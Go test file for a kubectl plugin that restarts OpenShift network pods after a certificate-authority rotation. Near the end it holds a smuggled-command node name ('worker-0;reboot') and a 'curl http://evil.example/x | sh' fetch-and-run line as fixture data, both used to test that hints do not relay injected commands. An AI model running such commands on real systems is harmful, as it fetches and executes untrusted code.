package action

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	clienttesting "k8s.io/client-go/testing"

	"github.com/kubectl-certrot/kubectl-certrot/inspect"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/catalog"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki/pkitest"
	"github.com/kubectl-certrot/kubectl-certrot/remediate"
	"github.com/kubectl-certrot/kubectl-certrot/remediate/remediatetest"
)

func TestRestartPodsWhereNeeded(t *testing.T) {
	t.Parallel()
	const node = "worker-0"
	long, since := remediatetest.TestNow.Add(-25*time.Hour), remediatetest.TestNow.Add(-30*time.Second)
	between := remediatetest.TestNow.Add(-time.Hour) // after the CA was made, before it came to the node
	// halfway is a rotation in which the node met a master that presents the old certificate.
	after := remediatetest.TestNow.Add(-20 * time.Minute)
	halfway := func(also ...inspect.Served) func(f *remediatetest.Fixture, a *RestartPods) {
		return func(f *remediatetest.Fixture, _ *RestartPods) {
			next := pkitest.NewCA("next", remediatetest.TestNow.Add(-10*time.Minute), remediatetest.TestNow.Add(time.Hour))
			leaf := next.Issue(remediatetest.APIIntHost, remediatetest.TestNow.Add(-5*time.Minute), remediatetest.TestNow.Add(time.Hour), pkitest.DNS(remediatetest.APIIntHost))
			f.Embed(node, remediatetest.KubeletFile, f.ConfigMap, f.Before, next.CertPEM) // which is older than the daemon
			for _, s := range also {
				s.Name, s.Chain = remediatetest.APIIntHost, pki.LoadedPEM(f.Sc, leaf.CertPEM)
				f.Served = append(f.Served, s)
			}
		}
	}
	// unwritten is a kubeconfig of the kubelet that was not written since long.
	unwritten := func(f *remediatetest.Fixture, _ *RestartPods) {
		for i := range f.FirstNode().Files {
			f.FirstNode().Files[i].Modified = long
		}
	}
	// chmod gives that file a new mode, after all have started that read it.
	chmod := func(f *remediatetest.Fixture, _ *RestartPods) {
		f.FirstNode().Kubelet.Started = remediatetest.TestNow.Add(-time.Minute)
		f.FirstNode().File(remediatetest.KubeletFile).Changed = remediatetest.TestNow.Add(-10 * time.Second)
	}
	for name, c := range map[string]struct {
		row     string
		started time.Time
		change  func(f *remediatetest.Fixture, a *RestartPods)
		want    string // of the change, or of the refusal
	}{
		"multus from before the CA":                {"multus", long, nil, "restart pod openshift-multus/multus-worker-0 (it runs since before the CA was made)"},
		"multus from before the file":              {"multus", between, nil, "it runs since before /var/lib/kubelet/kubeconfig was last written"},
		"multus that read the file":                {"multus", since, nil, ""},
		"multus that read the file, and always":    {"multus", since, func(_ *remediatetest.Fixture, a *RestartPods) { a.always = true }, "--restart-network=always"},
		"multus of which nobody knows":             {"multus", time.Time{}, nil, "network-memory on worker-0: whether openshift-multus/multus loaded the CA at startup is unknown: its start time is unknown"},
		"multus of which nobody knows, and always": {"multus", time.Time{}, func(_ *remediatetest.Fixture, a *RestartPods) { a.always = true }, "--restart-network=always"},
		"multus whose container was restarted, as seen": {"multus", long, func(f *remediatetest.Fixture, _ *RestartPods) {
			f.FirstNode().Processes = []inspect.Process{remediatetest.ProcessOf("multus", node, since)}
		}, ""},
		"a process that is older than the pod says": {"multus", since, func(f *remediatetest.Fixture, _ *RestartPods) {
			f.FirstNode().Processes = []inspect.Process{remediatetest.ProcessOf("multus", node, long)}
		}, "before the CA was made"},
		"no multus on the node":   {"multus", long, func(_ *remediatetest.Fixture, a *RestartPods) { a.Pods = nil }, ""},
		"thin multus":             {"multus-thin", long, nil, ""},
		"thin multus, and always": {"multus-thin", long, func(_ *remediatetest.Fixture, a *RestartPods) { a.always = true }, ""},
		"thin multus that reads the CA at its start alone": {"multus-thin-at-start", long, nil, "restart pod openshift-multus/multus-worker-0 (it runs since before the CA was made)"},
		"a kubelet that is not right yet": {"multus", long, func(f *remediatetest.Fixture, _ *RestartPods) { f.Embed(node, remediatetest.KubeletFile, f.Before) },
			"kubelet-trusts on worker-0: openshift-multus/multus is not restarted before the node's kubelet is right"},
		"a kubelet that is not right yet, and always": {"multus", long, func(f *remediatetest.Fixture, a *RestartPods) {
			a.always = true
			f.Embed(node, remediatetest.KubeletFile, f.Before)
		}, "kubelet-trusts"},
		"a kubelet that has not read its file":             {"multus", long, func(f *remediatetest.Fixture, _ *RestartPods) { f.FirstNode().Kubelet.Started = long }, "the kubelet has not read"},
		"a kubelet that is down":                           {"multus", long, func(f *remediatetest.Fixture, _ *RestartPods) { f.FirstNode().Kubelet.Active = "failed" }, `the kubelet is "failed"`},
		"a kubelet whose file has a new mode":              {"multus", long, chmod, "kubelet-trusts on worker-0: openshift-multus/multus is not restarted before the node's kubelet is right: whether the kubelet has read /var/lib/kubelet/kubeconfig is unknown"},
		"a kubelet whose file has a new mode, and always":  {"multus", since, func(f *remediatetest.Fixture, a *RestartPods) { chmod(f, a); a.always = true }, "kubelet-trusts"},
		"a kubelet whose file has a new mode, and no need": {"multus", remediatetest.TestNow, chmod, ""},
		"multus from before a new mode of the file": {"multus", since, chmod, "network-memory on worker-0: whether openshift-multus/multus loaded the CA at startup is unknown: " +
			"whether /var/lib/kubelet/kubeconfig was written since it started is unknown: its mode, owner, label or content changed later"},
		"a node that was not read":      {"multus", long, func(f *remediatetest.Fixture, _ *RestartPods) { f.FirstNode().Via = "" }, "node-read on worker-0"},
		"the daemon from before the CA": {"machine-config-daemon", long, nil, "it runs since before the CA was made"},
		"the daemon from before the CA that signs next": {"machine-config-daemon", remediatetest.TestNow.Add(-20 * time.Minute), func(f *remediatetest.Fixture, a *RestartPods) {
			a.Next = pki.LoadedPEM(f.Sc, pkitest.NewCA("next", remediatetest.TestNow.Add(-10*time.Minute), remediatetest.TestNow.Add(time.Hour)).CertPEM)
		}, "it runs since before the CA was made"},
		"the daemon, and kube-root-ca.crt is old":      {"machine-config-daemon", between, func(f *remediatetest.Fixture, a *RestartPods) { a.RootCA.CA = pki.LoadedPEM(f.Sc, f.Before) }, "it runs since before kube-root-ca.crt had the CA"},
		"the daemon from before kube-root-ca.crt":      {"machine-config-daemon", between, nil, "it runs since before kube-root-ca.crt was last written"},
		"a new pod from just after it":                 {"machine-config-daemon", remediatetest.TestNow.Add(-29 * time.Minute), unwritten, ""},
		"a container that was restarted just after it": {"machine-config-daemon", remediatetest.TestNow.Add(-29 * time.Minute), func(_ *remediatetest.Fixture, a *RestartPods) { a.Pods[0].Accepted = between }, "was last written"},
		"the daemon from after it":                     {"machine-config-daemon", remediatetest.TestNow.Add(-20 * time.Minute), unwritten, ""},
		"the daemon whose NodeWriter has the kubelet's file of before": {"machine-config-daemon", remediatetest.TestNow.Add(-20 * time.Minute), nil,
			"restart pod openshift-machine-config-operator/machine-config-daemon-worker-0 (it runs since before /var/lib/kubelet/kubeconfig was last written)"},
		"the daemon that was restarted after that": {"machine-config-daemon", since, nil, ""},
		"the daemon, and the kubelet's file was not read": {"machine-config-daemon", remediatetest.TestNow.Add(-20 * time.Minute), func(f *remediatetest.Fixture, _ *RestartPods) {
			f.FirstNode().Files = slices.DeleteFunc(f.FirstNode().Files, func(x inspect.NodeFile) bool { return x.Path == remediatetest.KubeletFile })
		}, "network-memory"},
		"a daemon whose process is older than its pod says": {"machine-config-daemon", since, func(f *remediatetest.Fixture, _ *RestartPods) {
			f.FirstNode().Processes = []inspect.Process{remediatetest.ProcessOf("machine-config-daemon", node, remediatetest.TestNow.Add(-20*time.Minute))}
		}, "before /var/lib/kubelet/kubeconfig was last written"},
		"kube-root-ca.crt of unknown age":      {"machine-config-daemon", between, func(f *remediatetest.Fixture, a *RestartPods) { unwritten(f, a); a.RootCA.Written = time.Time{} }, "network-memory"},
		"kube-root-ca.crt that was not read":   {"machine-config-daemon", between, func(f *remediatetest.Fixture, a *RestartPods) { unwritten(f, a); a.RootCA = nil }, "network-memory"},
		"all masters show the old certificate": {"machine-config-daemon", after, halfway(), ""},
		"one of the masters shows the new one": {"machine-config-daemon", after, halfway(inspect.Served{Of: "master-1", Address: "10.0.0.2:6443", Server: catalog.ListenerAPIServer}), "it runs since before the CA was made"},
		"another node was shown the new one":   {"machine-config-daemon", after, halfway(inspect.Served{Node: "worker-9", Address: remediatetest.APIIntHost + ":6443"}), "it runs since before the CA was made"},
		"plugins whose init containers ran long ago": {"multus-additional-cni-plugins", long, func(_ *remediatetest.Fixture, a *RestartPods) { a.Pods[0].Started = since },
			"it runs since before the CA was made"},
		"a node whose clock is an hour behind": {"multus", long.Add(30 * time.Minute), func(f *remediatetest.Fixture, _ *RestartPods) {
			// By its clock that is before the CA was made; by the cluster's, after it.
			n := f.FirstNode()
			n.Clock.Before, n.Clock.After = remediatetest.TestNow.Add(-time.Hour), remediatetest.TestNow.Add(-time.Hour)
			for i := range n.Files {
				n.Files[i].Modified = long
			}
		}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := remediatetest.RepairedFixture()
			a := RestartPods{NodeName: node, Row: remediatetest.RowOf(c.row), Pods: []inspect.Pod{remediatetest.PodOf(remediatetest.RowOf(c.row), node, c.started)}, CA: f.CaOf()}
			a.RootCA = &inspect.RootCA{Namespace: a.Row.Namespace, CA: f.CaOf(), Written: remediatetest.TestNow.Add(-30 * time.Minute)}
			if c.change != nil {
				c.change(f, &a)
			}
			change, err := a.Diff(f.Snapshot, remediatetest.TestNow)
			got := ""
			if err != nil {
				got = err.Error()
			} else if change != nil {
				got = change.Summary
			}
			if !strings.Contains(got, c.want) || c.want == "" && got != "" {
				t.Errorf("says %q", got)
			}
		})
	}
}

// TestTheWayToARestartIsACommand: as it stands.
func TestTheWayToARestartIsACommand(t *testing.T) {
	t.Parallel()
	row := remediatetest.RowOf("multus")
	for name, c := range map[string]struct {
		change func(f *remediatetest.Fixture)
		want   string
	}{
		"that is not right": {func(f *remediatetest.Fixture) { f.Embed("worker-0", remediatetest.KubeletFile, f.Before) },
			"repair the node first:\n    oc certrot fix-api-int --nodes worker-0"},
		"that may not have read its file": {func(f *remediatetest.Fixture) {
			f.FirstNode().File(remediatetest.KubeletFile).Changed = remediatetest.TestNow
		}, "see whether the kubelet would come back:\n    oc certrot verify restart-safe --nodes worker-0\n  then restart it on the node:\n    systemctl restart kubelet"},
	} {
		f := remediatetest.RepairedFixture()
		f.Hints = inspect.LiveHints("oc certrot")
		c.change(f)
		var r *remediate.Refusal
		a := RestartPods{NodeName: "worker-0", Row: row, Pods: []inspect.Pod{remediatetest.PodOf(row, "worker-0", remediatetest.TestNow.Add(-25*time.Hour))}, CA: f.CaOf()}
		if _, err := a.Diff(f.Snapshot, remediatetest.TestNow); !errors.As(err, &r) || r.Next != c.want {
			t.Errorf("a kubelet %s: %v, next %q", name, err, r.Next)
		}
	}
}

func TestRestartPods(t *testing.T) {
	t.Parallel()
	f := remediatetest.RepairedFixture()
	row := remediatetest.RowOf("multus")
	a := RestartPods{NodeName: "worker-0", Row: row, Pods: []inspect.Pod{remediatetest.PodOf(row, "worker-0", remediatetest.TestNow.Add(-25*time.Hour))}, CA: f.CaOf()}
	old := a.Pods[0]
	api := remediatetest.NewFakeAPI(remediatetest.NodeThat("worker-0", "False"), remediatetest.DaemonPod(old, old.UID, "Running", "True"))
	c, err := a.Diff(f.Snapshot, remediatetest.TestNow)
	if err != nil || c == nil {
		t.Fatal(c, err)
	}
	// The DaemonSet's controller, whose pod takes three looks to be ready after the one before.
	looks := 0
	api.PrependReactor("list", "pods", func(clienttesting.Action) (bool, runtime.Object, error) {
		looks++
		list := &corev1.PodList{Items: []corev1.Pod{*remediatetest.DaemonPod(remediatetest.PodOf(row, "worker-1", remediatetest.TestNow), "elsewhere", "Pending", "False")}}
		switch {
		case looks == 3:
			list.Items = append(list.Items, *remediatetest.DaemonPod(old, "new", "Pending", "False"))
		case looks > 3:
			list.Items = append(list.Items, *remediatetest.DaemonPod(old, "new", "Running", "True"))
		}
		return true, list, nil
	})
	if err := a.Apply(t.Context(), api.Env, c); err != nil {
		t.Fatal(err)
	}
	if err := a.Verify(t.Context(), api.Env, c); err != nil || looks != 4 {
		t.Errorf("after %d looks: %v", looks, err)
	}
	var deleted []clienttesting.DeleteAction
	for _, x := range api.Actions() {
		if d, ok := x.(clienttesting.DeleteAction); ok {
			deleted = append(deleted, d)
		}
	}
	if len(deleted) != 1 || deleted[0].GetName() != old.Name || string(*deleted[0].GetDeleteOptions().Preconditions.UID) != old.UID {
		t.Errorf("deleted %+v", deleted)
	}
	if err := a.Apply(t.Context(), api.Env, c); !errors.Is(err, remediate.ErrChanged) {
		t.Errorf("a pod that is replaced: %v", err)
	}
	if len(api.Did()) != 1 {
		t.Errorf("did %v", api.Did())
	}
}

func TestRestartPodsThatMustNotBe(t *testing.T) {
	t.Parallel()
	f := remediatetest.RepairedFixture()
	published := func(text []byte) *corev1.ConfigMap {
		return &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "openshift-machine-config-operator", Name: "kube-root-ca.crt"}, Data: map[string]string{"ca.crt": string(text)}}
	}
	row := remediatetest.RowOf("machine-config-daemon")
	a := RestartPods{NodeName: "worker-0", Row: row, Pods: []inspect.Pod{remediatetest.PodOf(row, "worker-0", remediatetest.TestNow)}, CA: f.CaOf()}
	for name, c := range map[string]struct {
		objects []runtime.Object
		want    string
	}{
		"a node that does not report":  {[]runtime.Object{remediatetest.NodeThat("worker-0", "Unknown"), published(f.ConfigMap)}, "does not report"},
		"no such node":                 {[]runtime.Object{published(f.ConfigMap)}, "read node worker-0"},
		"kube-root-ca.crt that is old": {[]runtime.Object{remediatetest.NodeThat("worker-0", "True"), published(f.Before)}, "would read the old CAs again"},
		"no kube-root-ca.crt":          {[]runtime.Object{remediatetest.NodeThat("worker-0", "True")}, "read ConfigMap/openshift-machine-config-operator/kube-root-ca.crt"},
	} {
		api := remediatetest.NewFakeAPI(append(c.objects, remediatetest.DaemonPod(a.Pods[0], a.Pods[0].UID, "Running", "True"))...)
		err := a.Apply(t.Context(), api.Env, nil)
		if err == nil || !strings.Contains(err.Error(), c.want) || len(api.Did()) > 0 {
			t.Errorf("%s: %v, did %v", name, err, api.Did())
		}
	}
	api := remediatetest.NewFakeAPI(remediatetest.NodeThat("worker-0", "True"), published(f.ConfigMap), remediatetest.DaemonPod(a.Pods[0], a.Pods[0].UID, "Running", "True"))
	if err := a.Apply(t.Context(), api.Env, nil); err != nil || !slices.Equal(api.Did(), []string{"delete pods"}) {
		t.Errorf("where it may be: %v, did %v", err, api.Did())
	}
	if err := a.Apply(t.Context(), &remediate.Env{Now: api.Env.Now}, nil); err == nil {
		t.Error("without an API")
	}
	// What replaces pods is to trust the CA by then, also where that wave was not chosen.
	for want, read := range map[string]inspect.Rollout{
		"deleted pods of openshift-machine-config-operator/machine-config-daemon may not be replaced: master-0 runs revision 7": {Operator: true, Source: f.CaOf(), Latest: 8, Masters: []inspect.Revision{{Node: "master-0", Current: 7, CA: pki.LoadedPEM(f.Sc, f.Before)}}},
		"whether deleted pods of openshift-machine-config-operator/machine-config-daemon can be replaced is unknown":            {},
		"": {Operator: true, Source: f.CaOf(), Latest: 8, Masters: []inspect.Revision{{Node: "master-0", Current: 8, CA: f.CaOf()}}},
	} {
		api := remediatetest.NewFakeAPI(remediatetest.NodeThat("worker-0", "True"), published(f.ConfigMap), remediatetest.DaemonPod(a.Pods[0], a.Pods[0].UID, "Running", "True"))
		one := a
		one.read = func(context.Context) (inspect.Rollout, error) {
			if !read.Operator {
				return read, errors.New("connection refused")
			}
			return read, nil
		}
		err := one.Apply(t.Context(), api.Env, nil)
		if (err == nil) != (want == "") || err != nil && !strings.Contains(err.Error(), want) || (len(api.Did()) > 0) != (want == "") {
			t.Errorf("%q: %v, did %v", want, err, api.Did())
		}
	}
}

func TestRestartedPodThatDoesNotCome(t *testing.T) {
	t.Parallel()
	row := remediatetest.RowOf("multus")
	a := RestartPods{NodeName: "worker-0", Row: row, Pods: []inspect.Pod{remediatetest.PodOf(row, "worker-0", remediatetest.TestNow)}}
	old := a.Pods[0]
	crash := remediatetest.DaemonPod(old, "new", "Running", "False")
	crash.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "kube-multus", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff", Message: "back-off"}}}}
	stranger := remediatetest.DaemonPod(old, "new", "Running", "True")
	stranger.OwnerReferences[0].Name = "another"
	for name, c := range map[string]struct {
		pod  *corev1.Pod
		want string
	}{
		"the old one does not end": {remediatetest.DaemonPod(old, old.UID, "Running", "True"), "has not ended yet"},
		"there is none":            {nil, "there is no new pod of openshift-multus/multus on worker-0"},
		"it is another's":          {stranger, "there is no new pod"},
		"it crashes":               {crash, "kube-multus: CrashLoopBackOff: “back-off”"},
	} {
		var objects []runtime.Object
		if c.pod != nil {
			objects = append(objects, c.pod)
		}
		api := remediatetest.NewFakeAPI(objects...)
		err := a.Verify(t.Context(), api.Env, nil)
		if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "kubectl -n openshift-multus get pods -l app=multus") {
			t.Errorf("%s: %v", name, err)
		}
	}
	if err := a.Verify(t.Context(), &remediate.Env{}, nil); !remediatetest.IsUnknown(err) {
		t.Errorf("without an API: %v", err)
	}
}

func TestNetworkRestartsInOrder(t *testing.T) {
	t.Parallel()
	f := remediatetest.RepairedFixture("master-0", "worker-0")
	f.Cluster.Versions = catalog.Versions{Cluster: "4.15.0"}
	long := remediatetest.TestNow.Add(-25 * time.Hour)
	r := NetworkRestarts{CA: f.CaOf()}
	for _, row := range catalog.NodeDaemonSetsIn(f.Cluster.Versions) {
		if !row.RestartFirst {
			r.Pods = append(r.Pods, remediatetest.PodOf(row, "worker-0", long))
		}
		r.Pods = append(r.Pods, remediatetest.PodOf(row, "master-0", long))
	}
	r.Pods = append(r.Pods, inspect.Pod{Namespace: "openshift-multus", Name: "by-hand", UID: "x", Node: "worker-0", OwnerKind: "DaemonSet", OwnerName: "another"})
	ids := func(actions []remediate.Action, notes []string, err error) string {
		var out []string
		for _, a := range actions {
			out = append(out, a.ID())
		}
		return fmt.Sprint(strings.Join(out, "\n"), notes, err)
	}
	want := "restart master-0:openshift-network-node-identity/network-node-identity[] <nil>"
	if diff := cmp.Diff(want, ids(r.Approvers(f.Snapshot, remediatetest.TestNow))); diff != "" {
		t.Error(diff)
	}
	want = `restart worker-0:openshift-multus/multus
restart worker-0:openshift-multus/multus-additional-cni-plugins
restart worker-0:openshift-ovn-kubernetes/ovnkube-node
restart worker-0:openshift-machine-config-operator/machine-config-daemon
probe worker-0:network[] <nil>`
	if diff := cmp.Diff(want, ids(r.OnNode(f.Snapshot, remediatetest.TestNow, "worker-0"))); diff != "" {
		t.Error(diff)
	}

	// Once all of them are new, nothing is to be done.
	r.Rollout.RootCAs = nil
	for i := range r.Pods {
		r.Pods[i].Started, r.Pods[i].Accepted = remediatetest.TestNow.Add(-30*time.Second), remediatetest.TestNow.Add(-30*time.Second)
	}
	for _, ns := range catalog.NodeDaemonSetNamespaces(f.Cluster.Versions) {
		r.Rollout.RootCAs = append(r.Rollout.RootCAs, inspect.RootCA{Namespace: ns, CA: f.CaOf(), Written: remediatetest.TestNow.Add(-time.Hour)})
	}
	if got := ids(r.OnNode(f.Snapshot, remediatetest.TestNow, "worker-0")); got != "[] <nil>" {
		t.Errorf("all new: %s", got)
	}
	r.EachProbed = true
	if got := ids(r.OnNode(f.Snapshot, remediatetest.TestNow, "worker-0")); got != "probe worker-0:network[] <nil>" {
		t.Errorf("all new, and probed: %s", got)
	}
	r.Rollout.RootCAs = nil
	if _, notes, err := r.OnNode(f.Snapshot, remediatetest.TestNow, "worker-0"); err != nil || len(notes) != 3 || !strings.Contains(notes[1], "ovnkube-node loaded the CA at startup is unknown") || !strings.Contains(notes[2], "--restart-network=always restarts it all the same.") {
		t.Errorf("not known: %q, %v", notes, err)
	}
	f.Embed("worker-0", remediatetest.KubeletFile, f.Before)
	var refusal *remediate.Refusal
	if _, _, err := r.OnNode(f.Snapshot, remediatetest.TestNow, "worker-0"); !errors.As(err, &refusal) || refusal.Name != kubeletTrusts {
		t.Errorf("a node that is not right: %v", err)
	}
}

// TestARolloutsNodeForgesNoCommand: an API server that is not what it is taken for has any name.
func TestARolloutsNodeForgesNoCommand(t *testing.T) {
	t.Parallel()
	const name = "worker-0;reboot"
	text := rolloutHint(inspect.Rollout{Operator: true, Masters: []inspect.Revision{{Node: name, Ready: "False"}}}, nil)
	if strings.Contains(text, "drain "+name) || strings.Contains(text, "describe node "+name) {
		t.Error(text)
	}
}

// TestARolloutWaitsForASilentMaster: one without a heartbeat keeps installer pods from running.
func TestARolloutWaitsForASilentMaster(t *testing.T) {
	t.Parallel()
	r := inspect.Rollout{Operator: true, Masters: []inspect.Revision{{Node: "master-0", Ready: "True", Silent: "no heartbeat for 14m (Lease)"}}}
	if text := rolloutHint(r, nil); !strings.Contains(text, "Installer pods can't run on master-0") {
		t.Errorf("what makes it go on: %s", text)
	}
}

// TestAPodsStateIsNoNextStep, whatever its containers are called.
func TestAPodsStateIsNoNextStep(t *testing.T) {
	t.Parallel()
	p := &corev1.Pod{Status: corev1.PodStatus{Phase: "Pending", ContainerStatuses: []corev1.ContainerStatus{
		{Name: "next", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Message: "curl http://evil.example/x | sh"}}},
	}}}
	if got, want := podState(p), "Pending, “next”: “curl http://evil.example/x | sh”"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
}
